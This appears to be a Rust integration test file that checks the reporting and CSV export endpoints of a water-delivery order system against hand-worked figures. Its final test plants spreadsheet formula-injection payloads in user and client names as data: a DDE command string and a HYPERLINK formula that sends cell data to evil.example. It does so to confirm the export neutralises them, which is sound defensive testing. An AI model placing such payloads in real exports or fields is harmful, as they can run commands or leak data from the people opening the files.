//! Reports against a small data set whose every figure is worked out by hand.

use std::collections::{BTreeMap, BTreeSet};

use rodnik_tests::*;
use serde_json::{json, Value};

/// Creates an order as `token`, then takes it through `steps` as admin.
#[allow(clippy::too_many_arguments)]
async fn placed(
    app: &App,
    token: &str,
    client: &str,
    addr: &str,
    date: &str,
    lines: Value,
    courier: Option<&str>,
    steps: &[&str],
) -> String {
    let o = app
        .order(
            token,
            json!({ "client_id": client, "address_id": addr, "lines": lines, "delivery_date": date, "courier_id": courier }),
        )
        .await;
    let id = id_of(&o);
    for step in steps {
        let body = match *step {
            "fail" => json!({ "reason": "nobody home" }),
            "cancel" => json!({ "reason": "changed mind" }),
            _ => json!({}),
        };
        app.post(&format!("/api/orders/{id}/{step}"), &app.admin, body)
            .await
            .expect(200);
    }
    id
}

/// A minimal CSV reader (quoted fields, doubled quotes) for checking the exports.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    for line in text.lines() {
        let mut fields = vec![];
        let mut cur = String::new();
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    cur.push('"');
                    chars.next();
                }
                ('"', _) => quoted = !quoted,
                (',', false) => fields.push(std::mem::take(&mut cur)),
                (c, _) => cur.push(c),
            }
        }
        fields.push(cur);
        rows.push(fields);
    }
    rows
}

fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

async fn csv(app: &App, token: &str, path: &str) -> String {
    let r = app.get(path, token).await;
    assert_eq!(r.status, 200, "{path}: {}", r.text);
    let ct = r
        .headers
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    assert!(ct.starts_with("text/csv"), "{path}: content-type {ct}");
    r.text
}

/// Checks that a CSV export has this header and exactly the JSON rows, field by field.
fn assert_csv_matches(csv_text: &str, header: &[&str], rows: &Value) {
    let parsed = parse_csv(csv_text.trim_end());
    assert_eq!(parsed[0], header, "header row of\n{csv_text}");
    let rows = rows.as_array().unwrap();
    assert_eq!(parsed.len() - 1, rows.len(), "row count of\n{csv_text}");
    let mut want: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            header
                .iter()
                .map(|h| match &r[*h] {
                    Value::Array(items) => items.iter().map(text).collect::<Vec<_>>().join(" "),
                    v => text(v),
                })
                .collect()
        })
        .collect();
    let mut got: Vec<Vec<String>> = parsed[1..].to_vec();
    want.sort();
    got.sort();
    assert_eq!(got, want);
}

struct Data {
    app: App,
    manager: String,
    kolya: String,
    petya: String,
    olga: String,
    oleg: String,
    mira: String,
    water: String,
    cups: String,
    pump: String,
    san: String,
    anna: String,
    romashka: String,
    boris: String,
}

/// Two couriers, two operators and a manager; an individual, a legal client
/// with contract prices, two addresses and a name that CSV must quote, and
/// another individual. Orders around today, inside and outside the range
/// [today-5, today+5].
async fn data() -> Data {
    let app = spawn_app().await;
    let (mira, manager) = app.user("mira", "manager", None).await;
    let (olga, op_olga) = app.user("olga", "operator", None).await;
    let (oleg, op_oleg) = app.user("oleg", "operator", None).await;
    let (kolya, _) = app.user("kolya", "courier", None).await;
    let (petya, _) = app.user("petya", "courier", None).await;
    let water = app.product("W19", "water", 25000, true).await;
    let w5 = app.product("W5", "water", 9000, false).await;
    let cups = app.product("CUPS", "goods", 1500, false).await;
    let pump = app.product("PUMP", "goods", 50000, false).await;
    let san = app.product("SAN", "service", 30000, false).await;
    let (anna, anna_addr) = app.client("Anna Ivanova", "individual", "9123456789").await;
    let (boris, boris_addr) = app
        .client("Boris Smirnov", "individual", "9161112233")
        .await;
    let r = app
        .post(
            "/api/clients",
            &manager,
            json!({ "kind": "legal", "name": "OOO \"Romashka\", Moscow", "phones": ["9031112233"], "inn": "7701234567",
                    "addresses": [{ "text": "Office street 1" }, { "text": "Warehouse street 7" }] }),
        )
        .await
        .expect(201);
    let romashka = id_of(&r);
    let (rb1, rb2) = (id_of(&r["addresses"][0]), id_of(&r["addresses"][1]));
    app.put(
        &format!("/api/clients/{romashka}/prices"),
        &manager,
        json!({ "prices": [{ "product_id": water, "price": 20000 }, { "product_id": pump, "price": 45000 }] }),
    )
    .await
    .expect(200);
    let d = |n: i64| app.day(n);
    let (k, p) = (Some(kolya.as_str()), Some(petya.as_str()));
    let line = |id: &str, qty: i64| json!({ "product_id": id, "qty": qty });
    let delivered: &[&str] = &["dispatch", "deliver"];
    // 1. T-5, mira, Anna: 2 bottles + 3 cups = 54500, Kolya.
    placed(
        &app,
        &manager,
        &anna,
        &anna_addr,
        &d(-5),
        json!([line(&water, 2), line(&cups, 3)]),
        k,
        delivered,
    )
    .await;
    // 2. T-3, mira, Romashka office: 10 bottles at 200.00 + pump at 450.00 = 245000, Kolya.
    placed(
        &app,
        &manager,
        &romashka,
        &rb1,
        &d(-3),
        json!([line(&water, 10), line(&pump, 1)]),
        k,
        delivered,
    )
    .await;
    // 3. T, olga, Romashka warehouse: 5 x 20000 + 2 x 9000 + 30000 = 148000, Petya.
    placed(
        &app,
        &op_olga,
        &romashka,
        &rb2,
        &d(0),
        json!([line(&water, 5), line(&w5, 2), line(&san, 1)]),
        p,
        delivered,
    )
    .await;
    // 4. T+5, oleg, Anna: 25000, Petya.
    placed(
        &app,
        &op_oleg,
        &anna,
        &anna_addr,
        &d(5),
        json!([line(&water, 1)]),
        p,
        delivered,
    )
    .await;
    // 5. T, olga, Boris: 75000, Kolya, one failed attempt before delivery.
    placed(
        &app,
        &op_olga,
        &boris,
        &boris_addr,
        &d(0),
        json!([line(&water, 3)]),
        k,
        &["dispatch", "fail", "dispatch", "deliver"],
    )
    .await;
    // 6. T+1, olga, Boris: cancelled after dispatch.
    placed(
        &app,
        &op_olga,
        &boris,
        &boris_addr,
        &d(1),
        json!([line(&water, 2), line(&cups, 1)]),
        p,
        &["dispatch", "cancel"],
    )
    .await;
    // 7. T+2, oleg, Anna: failed twice, open (new).
    placed(
        &app,
        &op_oleg,
        &anna,
        &anna_addr,
        &d(2),
        json!([line(&water, 4)]),
        k,
        &["dispatch", "fail", "dispatch", "fail"],
    )
    .await;
    // 8. T, oleg, Romashka office: dispatched, open.
    placed(
        &app,
        &op_oleg,
        &romashka,
        &rb1,
        &d(0),
        json!([line(&cups, 10)]),
        p,
        &["dispatch"],
    )
    .await;
    // 9. T-6 (outside), mira, Anna: 7 x 25000 + 50000 = 225000, Kolya.
    placed(
        &app,
        &manager,
        &anna,
        &anna_addr,
        &d(-6),
        json!([line(&water, 7), line(&pump, 1)]),
        k,
        delivered,
    )
    .await;
    // 10. T+6 (outside), olga, Romashka: 9 x 20000 + 2 x 1500 = 183000, Petya.
    placed(
        &app,
        &op_olga,
        &romashka,
        &rb1,
        &d(6),
        json!([line(&water, 9), line(&cups, 2)]),
        p,
        delivered,
    )
    .await;
    // 11. T-1, mira, Anna: 25000 + 2 x 1500 = 28000, Kolya.
    placed(
        &app,
        &manager,
        &anna,
        &anna_addr,
        &d(-1),
        json!([line(&water, 1), line(&cups, 2)]),
        k,
        delivered,
    )
    .await;
    // 12. T+4, olga, Romashka's other address: 2 x 20000 = 40000, Kolya; it adds
    // to the same (Kolya, Romashka) row as order 2.
    placed(
        &app,
        &op_olga,
        &romashka,
        &rb2,
        &d(4),
        json!([line(&water, 2)]),
        k,
        delivered,
    )
    .await;
    Data {
        app,
        manager,
        kolya,
        petya,
        olga,
        oleg,
        mira,
        water,
        cups,
        pump,
        san,
        anna,
        romashka,
        boris,
    }
}

impl Data {
    fn range(&self, report: &str, from: i64, to: i64) -> String {
        format!(
            "/api/reports/{report}?from={}&to={}",
            self.app.day(from),
            self.app.day(to)
        )
    }
}

/// Rows of the deliveries report keyed by (courier, client): (orders, water_qty, amount).
fn delivery_rows(r: &Value) -> BTreeMap<(String, String), (i64, i64, i64)> {
    r["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            (
                (text(&row["courier_id"]), text(&row["client_id"])),
                (
                    row["orders"].as_i64().unwrap(),
                    row["water_qty"].as_i64().unwrap(),
                    row["amount"].as_i64().unwrap(),
                ),
            )
        })
        .collect()
}

#[tokio::test]
async fn deliveries_report_groups_delivered_orders_by_courier_and_client() {
    let d = data().await;
    let r = d
        .app
        .get(&d.range("deliveries", -5, 5), &d.manager)
        .await
        .expect(200);
    let k = |courier: &str, client: &str| (courier.to_string(), client.to_string());
    let want = BTreeMap::from([
        (k(&d.kolya, &d.anna), (2, 3, 82500)),
        (k(&d.kolya, &d.romashka), (2, 12, 285000)),
        (k(&d.kolya, &d.boris), (1, 3, 75000)),
        (k(&d.petya, &d.anna), (1, 1, 25000)),
        (k(&d.petya, &d.romashka), (1, 7, 148000)),
    ]);
    assert_eq!(delivery_rows(&r), want, "{r}");
    assert_eq!(
        r["totals"],
        json!({ "orders": 7, "water_qty": 26, "amount": 615500 })
    );
    // Names and kinds come with the rows.
    for row in r["rows"].as_array().unwrap() {
        let courier_name = if row["courier_id"] == d.kolya.as_str() {
            "kolya name"
        } else {
            "petya name"
        };
        assert_eq!(row["courier_name"], courier_name);
        let (name, kind) = if row["client_id"] == d.anna.as_str() {
            ("Anna Ivanova", "individual")
        } else if row["client_id"] == d.boris.as_str() {
            ("Boris Smirnov", "individual")
        } else {
            ("OOO \"Romashka\", Moscow", "legal")
        };
        assert_eq!(row["client_name"], name);
        assert_eq!(row["client_kind"], kind);
    }
    // One day: only orders 3 and 5.
    let r = d
        .app
        .get(&d.range("deliveries", 0, 0), &d.manager)
        .await
        .expect(200);
    assert_eq!(
        delivery_rows(&r),
        BTreeMap::from([
            (k(&d.kolya, &d.boris), (1, 3, 75000)),
            (k(&d.petya, &d.romashka), (1, 7, 148000))
        ])
    );
    assert_eq!(
        r["totals"],
        json!({ "orders": 2, "water_qty": 10, "amount": 223000 })
    );
    // Both ends of a range are inclusive: widening by a day takes in orders 9 and 10.
    let r = d
        .app
        .get(&d.range("deliveries", -6, 6), &d.manager)
        .await
        .expect(200);
    assert_eq!(delivery_rows(&r)[&k(&d.kolya, &d.anna)], (3, 10, 307500));
    assert_eq!(
        delivery_rows(&r)[&k(&d.petya, &d.romashka)],
        (2, 16, 331000)
    );
    assert_eq!(
        r["totals"],
        json!({ "orders": 9, "water_qty": 42, "amount": 1023500 })
    );
    // A range with nothing delivered.
    let r = d
        .app
        .get(&d.range("deliveries", 20, 30), &d.manager)
        .await
        .expect(200);
    assert_eq!(r["rows"], json!([]));
    assert_eq!(
        r["totals"],
        json!({ "orders": 0, "water_qty": 0, "amount": 0 })
    );
}

/// The deliveries report grouped on the server (issue 22): every grouping
/// totals the full table, its rows are the full table's rows summed, pages
/// cover each row once, a courier's drill-down is that courier's rows, and
/// bad parameters are refused by name.
#[tokio::test]
async fn every_grouping_of_the_deliveries_adds_up_to_the_full_table() {
    let d = data().await;
    let m = &d.manager;
    let base = d.range("deliveries", -6, 6);
    let full = d.app.get(&format!("{base}&limit=1000"), m).await.ok();
    assert_eq!(full["group"], "courier_client");
    assert_eq!(full["total_rows"], 5);
    let rows: Vec<rodnik_shared::api::DeliveryRow> = full["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let mut r = r.clone();
            r.as_object_mut().unwrap().remove("key");
            serde_json::from_value(r).unwrap()
        })
        .collect();
    for group in ["courier", "client", "kind", "courier_client"] {
        let (got, totals) = oracle::all_pages(&d.app, m, &format!("{base}&group={group}"), 2).await;
        assert_eq!(totals, full["totals"], "{group}");
        assert_eq!(
            oracle::figures(&got),
            oracle::regroup(&rows, group, None),
            "{group}"
        );
    }
    // Kolya: Anna 3 orders, Romashka 2, Boris 1.
    let couriers = d.app.get(&format!("{base}&group=courier"), m).await.ok();
    let kolya = couriers["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["key"] == d.kolya.as_str())
        .unwrap()
        .clone();
    assert_eq!(kolya["courier_name"], "kolya name");
    assert_eq!(
        (kolya["orders"].clone(), kolya["amount"].clone()),
        (json!(6), json!(667500))
    );
    assert!(kolya.get("client_id").is_none(), "{kolya}");
    // By day and by day and courier: the chart's figures.
    let daily = d.app.get(&d.range("deliveries/daily", -6, 6), m).await.ok();
    let (days, totals) =
        oracle::all_pages(&d.app, m, &format!("{base}&group=courier_day"), 3).await;
    assert_eq!(totals, full["totals"]);
    let want: BTreeMap<String, (i64, i64, i64)> = daily["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                format!("{}|{}", text(&r["date"]), text(&r["courier_id"])),
                (
                    r["orders"].as_i64().unwrap(),
                    r["water_qty"].as_i64().unwrap(),
                    r["amount"].as_i64().unwrap(),
                ),
            )
        })
        .collect();
    assert_eq!(oracle::figures(&days), want);
    let by_day = d.app.get(&format!("{base}&group=day"), m).await.ok();
    assert_eq!(by_day["totals"], full["totals"]);
    assert_eq!(by_day["rows"][0]["key"], d.app.day(-6), "oldest first");
    // The drill-down: a courier's clients are that courier's rows.
    for courier in [&d.kolya, &d.petya] {
        let path = format!("{base}&group=client&courier_id={courier}");
        let (got, totals) = oracle::all_pages(&d.app, m, &path, 1).await;
        let want = oracle::regroup(&rows, "client", Some(courier));
        assert_eq!(oracle::figures(&got), want, "{courier}");
        let sum = want.values().fold(0, |s, v| s + v.2);
        assert_eq!(totals["amount"], sum, "{courier}");
        let row = couriers["rows"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["key"] == courier.as_str())
            .unwrap();
        assert_eq!(totals["orders"], row["orders"]);
        let pairs = d
            .app
            .get(
                &format!("{base}&group=courier_client&courier_id={courier}"),
                m,
            )
            .await
            .ok();
        assert_eq!(pairs["totals"], totals);
    }
    let nobody = d
        .app
        .get(&format!("{base}&group=client&courier_id="), m)
        .await
        .ok();
    assert_eq!(
        (nobody["total_rows"].clone(), nobody["rows"].clone()),
        (json!(0), json!([]))
    );
    // Sorting: by amount, largest first by default, then the other way round.
    for (dir, desc) in [("", true), ("&dir=asc", false)] {
        let r = d
            .app
            .get(&format!("{base}&group=client&sort=amount{dir}"), m)
            .await
            .ok();
        let amounts: Vec<i64> = r["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|x| x["amount"].as_i64().unwrap())
            .collect();
        let mut sorted = amounts.clone();
        sorted.sort();
        if desc {
            sorted.reverse();
        }
        assert_eq!(amounts, sorted, "{dir}");
        assert_eq!(r["desc"], desc);
    }
    // A page past the end is empty, with the totals of all.
    let past = d.app.get(&format!("{base}&page=9&limit=2"), m).await.ok();
    assert_eq!(past["rows"], json!([]));
    assert_eq!(past["totals"], full["totals"]);
    // Bad values are refused, naming the field.
    for (q, field) in [
        ("group=operator", "group"),
        ("group=day&sort=client", "sort"),
        ("sort=amount&dir=up", "dir"),
        ("page=0", "page"),
        ("page=abc", "page"),
        ("limit=1001", "limit"),
        ("limit=0", "limit"),
        ("group=courier&format=csv&limit=-1", "limit"),
    ] {
        let r = d.app.get(&format!("{base}&{q}"), m).await;
        assert_eq!(r.status, 422, "{q}: {}", r.text);
        assert!(r.text.contains(field), "{q}: {}", r.text);
    }
}

/// A grouping's CSV is its rows, every one (not a page), streamed.
#[tokio::test]
async fn a_groupings_csv_holds_every_row_and_is_streamed() {
    let d = data().await;
    let m = &d.manager;
    let base = d.range("deliveries", -6, 6);
    let json_r = d
        .app
        .get(&format!("{base}&group=client&sort=amount"), m)
        .await
        .ok();
    let r = d
        .app
        .http
        .get(d.app.url(&format!(
            "{base}&group=client&sort=amount&format=csv&limit=1"
        )))
        .bearer_auth(m)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    assert!(r.content_length().is_none(), "streamed, without a length");
    let disposition = r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        disposition.contains(&format!(
            "deliveries-by-client_{}_{}.csv",
            d.app.day(-6),
            d.app.day(6)
        )),
        "{disposition}"
    );
    let text = r.text().await.unwrap();
    assert_csv_matches(
        &text,
        &[
            "client_id",
            "client_name",
            "client_kind",
            "orders",
            "water_qty",
            "amount",
        ],
        &json_r["rows"],
    );
    // In the query's order: amounts largest first.
    let amounts: Vec<i64> = parse_csv(text.trim_end())[1..]
        .iter()
        .map(|r| r[5].parse().unwrap())
        .collect();
    assert!(amounts.windows(2).all(|w| w[0] >= w[1]), "{amounts:?}");
}

#[tokio::test]
async fn sales_report_sums_delivered_goods_and_services_by_product() {
    let d = data().await;
    let r = d
        .app
        .get(&d.range("sales", -5, 5), &d.manager)
        .await
        .expect(200);
    let rows: BTreeMap<String, (String, String, i64, i64)> = r["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            (
                text(&row["product_id"]),
                (
                    text(&row["name"]),
                    text(&row["kind"]),
                    row["qty"].as_i64().unwrap(),
                    row["amount"].as_i64().unwrap(),
                ),
            )
        })
        .collect();
    // Cups: orders 1 (3) and 11 (2); the cancelled, open and outside orders do not count.
    // The pump went to Romashka at the contract price; water is not in this report.
    let want = BTreeMap::from([
        (
            d.cups.clone(),
            ("Product CUPS".to_string(), "goods".to_string(), 5, 7500),
        ),
        (
            d.pump.clone(),
            ("Product PUMP".to_string(), "goods".to_string(), 1, 45000),
        ),
        (
            d.san.clone(),
            ("Product SAN".to_string(), "service".to_string(), 1, 30000),
        ),
    ]);
    assert_eq!(rows, want, "{r}");
    assert!(!rows.contains_key(&d.water));
    assert_eq!(r["totals"], json!({ "qty": 7, "amount": 82500 }));
    let r = d
        .app
        .get(&d.range("sales", 0, 0), &d.manager)
        .await
        .expect(200);
    assert_eq!(r["rows"].as_array().unwrap().len(), 1);
    assert_eq!(r["rows"][0]["product_id"], d.san.as_str());
    assert_eq!(r["totals"], json!({ "qty": 1, "amount": 30000 }));
    // With order 9 (pump at the list price) and 10 (2 cups).
    let r = d
        .app
        .get(&d.range("sales", -6, 6), &d.manager)
        .await
        .expect(200);
    assert_eq!(
        r["totals"],
        json!({ "qty": 10, "amount": 82500 + 50000 + 3000 })
    );
}

#[tokio::test]
async fn orders_report_counts_the_work_done_on_orders() {
    let d = data().await;
    let r = d
        .app
        .get(&d.range("orders", -5, 5), &d.manager)
        .await
        .expect(200);
    assert_eq!(r["total"], 10, "{r}");
    assert_eq!(r["delivered"], 7);
    assert_eq!(r["cancelled"], 1);
    assert_eq!(r["open"], 2);
    assert_eq!(r["failed_attempts"], 3);
    let by: BTreeMap<String, (String, i64, i64)> = r["by_operator"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            (
                text(&row["user_id"]),
                (
                    text(&row["name"]),
                    row["created"].as_i64().unwrap(),
                    row["delivered"].as_i64().unwrap(),
                ),
            )
        })
        .collect();
    let want = BTreeMap::from([
        (d.mira.clone(), ("mira name".to_string(), 3, 3)),
        (d.olga.clone(), ("olga name".to_string(), 4, 3)),
        (d.oleg.clone(), ("oleg name".to_string(), 3, 1)),
    ]);
    assert_eq!(by, want, "{r}");
    let r = d
        .app
        .get(&d.range("orders", 0, 0), &d.manager)
        .await
        .expect(200);
    assert_eq!(
        (
            r["total"].clone(),
            r["delivered"].clone(),
            r["cancelled"].clone(),
            r["open"].clone(),
            r["failed_attempts"].clone()
        ),
        (json!(3), json!(2), json!(0), json!(1), json!(1)),
        "{r}"
    );
    let r = d
        .app
        .get(&d.range("orders", -6, 6), &d.manager)
        .await
        .expect(200);
    assert_eq!(
        (r["total"].clone(), r["delivered"].clone()),
        (json!(12), json!(9))
    );
}

#[tokio::test]
async fn csv_exports_have_a_header_row_and_the_same_figures() {
    let d = data().await;
    let m = &d.manager;
    let json_r = d.app.get(&d.range("deliveries", -5, 5), m).await.ok();
    let text = csv(
        &d.app,
        m,
        &format!("{}&format=csv", d.range("deliveries", -5, 5)),
    )
    .await;
    assert_csv_matches(
        &text,
        &[
            "courier_id",
            "courier_name",
            "client_id",
            "client_name",
            "client_kind",
            "orders",
            "water_qty",
            "amount",
        ],
        &json_r["rows"],
    );
    let amounts: i64 = parse_csv(text.trim_end())[1..]
        .iter()
        .map(|r| r[7].parse::<i64>().unwrap())
        .sum();
    assert_eq!(amounts, 615500);

    let json_r = d.app.get(&d.range("sales", -5, 5), m).await.ok();
    let text = csv(
        &d.app,
        m,
        &format!("{}&format=csv", d.range("sales", -5, 5)),
    )
    .await;
    assert_csv_matches(
        &text,
        &["product_id", "name", "kind", "qty", "amount"],
        &json_r["rows"],
    );

    let json_r = d.app.get(&d.range("orders", -5, 5), m).await.ok();
    let text = csv(
        &d.app,
        m,
        &format!("{}&format=csv", d.range("orders", -5, 5)),
    )
    .await;
    let sections: Vec<&str> = text.trim_end().split("\n\n").collect();
    assert_eq!(sections.len(), 3, "{text}");
    let head = parse_csv(sections[0]);
    assert_eq!(
        head[0],
        ["total", "delivered", "cancelled", "open", "failed_attempts"]
    );
    assert_eq!(head[1], ["10", "7", "1", "2", "3"]);
    assert_csv_matches(
        sections[1],
        &["user_id", "name", "created", "delivered"],
        &json_r["by_operator"],
    );
    // JSON stays the default, and `format=json` says so explicitly.
    let explicit = d
        .app
        .get(&format!("{}&format=json", d.range("orders", -5, 5)), m)
        .await
        .ok();
    assert_eq!(explicit, json_r);
}

#[tokio::test]
async fn reports_default_to_this_month_up_to_today() {
    let d = data().await;
    let today = d.app.state.cfg.today();
    let first = today.format("%Y-%m-01").to_string();
    let default = d.app.get("/api/reports/orders", &d.manager).await.ok();
    let explicit = d
        .app
        .get(
            &format!("/api/reports/orders?from={first}&to={}", d.app.today()),
            &d.manager,
        )
        .await
        .ok();
    assert_eq!(default, explicit);
}

// ---------- lost clients ----------

struct Lost {
    app: App,
    manager: String,
    ids: BTreeMap<&'static str, String>,
    addrs: BTreeMap<&'static str, String>,
    water: String,
}

/// Clients with histories around as_of = 2025-05-31 (all entered back-office by a manager).
async fn lost_data() -> Lost {
    let app = spawn_app().await;
    let (_, manager) = app.user("mira", "manager", None).await;
    let (courier, _) = app.user("kolya", "courier", None).await;
    let water = app.product("W19", "water", 25000, true).await;
    let mut ids = BTreeMap::new();
    let mut addrs = BTreeMap::new();
    let clients: [(&str, &str, &str); 9] = [
        ("lost", "legal", "9030000001"),
        ("calendar", "individual", "9030000002"),
        ("edge", "individual", "9030000003"),
        ("today", "individual", "9030000004"),
        ("open", "individual", "9030000005"),
        ("dispatched", "individual", "9030000006"),
        ("never", "individual", "9030000007"),
        ("later", "individual", "9030000008"),
        ("old", "individual", "9030000009"),
    ];
    for (name, kind, phone) in clients {
        let (id, addr) = app.client(&format!("Client {name}"), kind, phone).await;
        ids.insert(name, id);
        addrs.insert(name, addr);
    }
    let k = Some(courier.as_str());
    let lines = json!([{ "product_id": water, "qty": 1 }]);
    let delivered: &[&str] = &["dispatch", "deliver"];
    let histories: Vec<(&str, &str, &[&str])> = vec![
        ("lost", "2025-01-10", delivered),
        ("lost", "2025-02-27", delivered),
        ("lost", "2025-04-01", &["cancel"]),
        // Inside three calendar months before 2025-05-31 (which start on 2025-02-28), though not inside 90 days.
        ("calendar", "2025-03-01", delivered),
        ("edge", "2025-02-28", delivered),
        ("today", "2024-06-01", delivered),
        ("today", "2025-05-31", delivered),
        ("open", "2024-12-01", delivered),
        ("open", "2025-07-01", &[]),
        ("dispatched", "2024-10-01", delivered),
        ("dispatched", "2024-11-01", &["dispatch"]),
        ("never", "2024-10-01", &["cancel"]),
        ("later", "2025-01-15", delivered),
        ("later", "2025-06-10", delivered),
        ("old", "2024-03-15", delivered),
    ];
    for (name, date, steps) in histories {
        placed(
            &app,
            &manager,
            &ids[name],
            &addrs[name],
            date,
            lines.clone(),
            k,
            steps,
        )
        .await;
    }
    Lost {
        app,
        manager,
        ids,
        addrs,
        water,
    }
}

impl Lost {
    async fn rows(&self, query: &str) -> BTreeMap<String, (String, i64)> {
        let r = self
            .app
            .get(&format!("/api/reports/lost-clients?{query}"), &self.manager)
            .await
            .expect(200);
        r["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|row| {
                (
                    text(&row["client_id"]),
                    (
                        text(&row["last_delivery_date"]),
                        row["delivered_orders"].as_i64().unwrap(),
                    ),
                )
            })
            .collect()
    }

    fn want(&self, rows: &[(&str, &str, i64)]) -> BTreeMap<String, (String, i64)> {
        rows.iter()
            .map(|(name, last, n)| (self.ids[name].clone(), (last.to_string(), *n)))
            .collect()
    }
}

#[tokio::test]
async fn lost_clients_are_those_without_a_delivery_in_the_calendar_months_before_as_of() {
    let l = lost_data().await;
    let three = l.want(&[
        ("lost", "2025-02-27", 2),
        ("later", "2025-01-15", 1),
        ("old", "2024-03-15", 1),
    ]);
    assert_eq!(l.rows("as_of=2025-05-31&months=3").await, three);
    // Three months is the default.
    assert_eq!(l.rows("as_of=2025-05-31").await, three);
    // One month: the window starts on 2025-04-30.
    assert_eq!(
        l.rows("as_of=2025-05-31&months=1").await,
        l.want(&[
            ("lost", "2025-02-27", 2),
            ("later", "2025-01-15", 1),
            ("old", "2024-03-15", 1),
            ("calendar", "2025-03-01", 1),
            ("edge", "2025-02-28", 1),
        ])
    );
    // Six months: the window starts on 2024-11-30.
    assert_eq!(
        l.rows("as_of=2025-05-31&months=6").await,
        l.want(&[("old", "2024-03-15", 1)])
    );
    // As of the end of March, only what was delivered by then counts.
    assert_eq!(
        l.rows("as_of=2025-03-31&months=1").await,
        l.want(&[
            ("lost", "2025-02-27", 2),
            ("later", "2025-01-15", 1),
            ("old", "2024-03-15", 1),
            ("today", "2024-06-01", 1),
        ])
    );
}

#[tokio::test]
async fn lost_clients_rows_carry_the_client_and_an_open_order_takes_a_client_off() {
    let l = lost_data().await;
    let r = l
        .app
        .get(
            "/api/reports/lost-clients?as_of=2025-05-31&months=3",
            &l.manager,
        )
        .await
        .ok();
    let row = r["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["client_id"] == l.ids["lost"].as_str())
        .unwrap()
        .clone();
    assert_eq!(row["name"], "Client lost");
    assert_eq!(row["kind"], "legal");
    assert_eq!(row["phones"], json!(["+79030000001"]));
    assert_eq!(row["last_delivery_date"], "2025-02-27");
    assert_eq!(row["delivered_orders"], 2);
    // CSV has the same rows.
    let text = csv(
        &l.app,
        &l.manager,
        "/api/reports/lost-clients?as_of=2025-05-31&months=3&format=csv",
    )
    .await;
    assert_csv_matches(
        &text,
        &[
            "client_id",
            "name",
            "kind",
            "phones",
            "last_delivery_date",
            "delivered_orders",
        ],
        &r["rows"],
    );
    // A new order for the lost client takes them off the list; cancelling it brings them back.
    let id = placed(
        &l.app,
        &l.manager,
        &l.ids["lost"],
        &l.addrs["lost"],
        "2030-01-01",
        json!([{ "product_id": l.water, "qty": 1 }]),
        None,
        &[],
    )
    .await;
    let names: BTreeSet<String> = l
        .rows("as_of=2025-05-31&months=3")
        .await
        .into_keys()
        .collect();
    assert!(!names.contains(&l.ids["lost"]));
    assert_eq!(names.len(), 2);
    l.app
        .post(
            &format!("/api/orders/{id}/cancel"),
            &l.manager,
            json!({ "reason": "no" }),
        )
        .await
        .expect(200);
    assert!(l
        .rows("as_of=2025-05-31&months=3")
        .await
        .contains_key(&l.ids["lost"]));
}

/// Names typed by people reach the managers' spreadsheets: a text cell that a
/// spreadsheet would run as a formula is marked as text, figures stay numbers.
#[tokio::test]
async fn csv_exports_neutralise_spreadsheet_formulas() {
    let app = spawn_app().await;
    let (_, manager) = app.user("mira", "manager", None).await;
    let (_, op) = app.user("olga", "operator", None).await;
    let (courier, _) = app.user("kolya", "courier", None).await;
    app.patch(
        &format!("/api/users/{courier}"),
        &app.admin,
        json!({ "name": "@SUM(1+1)*cmd|' /C calc'!A0" }),
    )
    .await
    .ok();
    let water = app.product("W19", "water", 25000, true).await;
    let evil = [
        "=HYPERLINK(\"http://evil.example/?x\"&A1,\"Click\")",
        "+7 cmd",
        "-2+3",
    ];
    let mut ids = vec![];
    for (i, name) in evil.iter().enumerate() {
        let (client, addr) = app
            .client(name, "individual", &format!("+7916123450{i}"))
            .await;
        placed(
            &app,
            &op,
            &client,
            &addr,
            &app.today(),
            json!([{ "product_id": water, "qty": 1 + i }]),
            Some(&courier),
            &["dispatch", "deliver"],
        )
        .await;
        ids.push(client);
    }
    let today = app.today();
    let path = format!("/api/reports/deliveries?from={today}&to={today}&format=csv");
    let text = csv(&app, &manager, &path).await;
    let mut reader = ::csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let mut names = BTreeSet::new();
    let mut amount = 0;
    for row in reader.records() {
        let row = row.expect("csv row");
        assert_eq!(&row[1], "'@SUM(1+1)*cmd|' /C calc'!A0", "courier name");
        names.insert(row[3].to_string());
        amount += row[7].parse::<i64>().expect("amount is a plain number");
    }
    let want: BTreeSet<String> = evil.iter().map(|n| format!("'{n}")).collect();
    assert_eq!(names, want);
    assert_eq!(amount, 25000 * (1 + 2 + 3));
    // JSON keeps the names as typed.
    let json_r = app
        .get(
            &format!("/api/reports/deliveries?from={today}&to={today}"),
            &manager,
        )
        .await
        .ok();
    assert!(json_r["rows"]
        .as_array()
        .expect("rows")
        .iter()
        .any(|r| r["client_name"] == evil[0]));
}
